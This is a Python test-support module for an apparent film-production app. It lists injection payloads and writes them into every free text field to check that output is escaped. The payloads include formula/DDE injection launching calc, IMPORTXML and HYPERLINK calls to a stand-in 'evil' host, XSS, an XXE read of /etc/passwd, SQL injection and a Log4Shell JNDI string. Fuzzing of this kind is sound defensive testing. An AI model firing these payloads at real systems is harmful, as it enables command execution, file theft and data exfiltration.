"""Texts made to become a formula, a link, a field, markup or code wherever they are printed or shown."""

from __future__ import annotations

from typing import Any

from filmdesk import registry
from filmdesk.production.production import Production
from filmdesk.production.tables import Table
from filmdesk.values.columns import Column

SEEDS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil","x")',
    '=IMPORTXML("http://evil")',
    "＝1+1",
    "+44 20 7946 0958",
    "-5",
    "@handle",
    "=",
    "#REF!",
    "#N/A",
    "{=SUM(A1)}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<b>x",
    "</w:t></w:r>",
    "]]>",
    "<!--",
    "&lt;&amp;",
    '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '" onclick="x',
    "' or '1'='1",
    'INCLUDEPICTURE "http://evil"',
    "DDEAUTO c:\\\\x",
    '<w:fldSimple w:instr="DDE"/>',
    "_x0041_",
    "\x00\x01\x02",
    "a\x0bb\x0cc",
    "\ud800",
    "\ufffe\uffff",
    "\u202eevil\u202c",
    "\u200bhidden\ufeff",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "\\\\evil\\share",
    ") Tj ET (",
    "\\( \\)",
    "%PDF-1.4",
    "endstream",
    "{{7*7}}",
    "${jndi:ldap://evil}",
    "%n%s",
    "😀 family 👩‍👩‍👧",
    "a" * 40_000,
)
PAYLOADS = [*SEEDS, *(f"ok {seed}" for seed in SEEDS)]
SHAPED = {
    "category", "cast_number", "colour", "currency", "day_night", "end_page", "kind", "meal", "number", "page", "part",
    "rubric", "schedule_colour", "script_colour", "script_day", "time_zone", "unit", "weather_hour",
}  # fmt: skip
"""Text fields that the program itself gives a shape."""


def storable(longest: int) -> list[str]:
    """Those a file can hold, cut to a length."""
    texts = (text.replace("\0", "") for text in PAYLOADS)
    return [text[:longest] for text in texts if text and "\ud800" not in text]


def strewn(production: Production, texts: list[str]) -> int:
    """Put the texts into every field of every record that takes any, in turn; gives how many fields were filled."""
    count = 0
    with production.step("Strew"):
        for kind in registry.contributed("records"):
            table = registry.resolve(kind.table)
            columns = {column.name for column in registry.resolve(kind.columns) if _is_free(column, table)}
            for (identity,) in production.read(f"SELECT id FROM {table.name} ORDER BY id"):
                for column in sorted(columns):
                    text = texts[count % len(texts)]
                    production.write(f"UPDATE {table.name} SET {column} = ? WHERE id = ?", (text, identity))
                    count += 1
    return count


def _is_free(column: Column, table: Table[Any]) -> bool:
    shaped = column.kind != "text" or column.choices or column.computed or column.name in SHAPED
    return not shaped and table.hints.get(column.name) is str
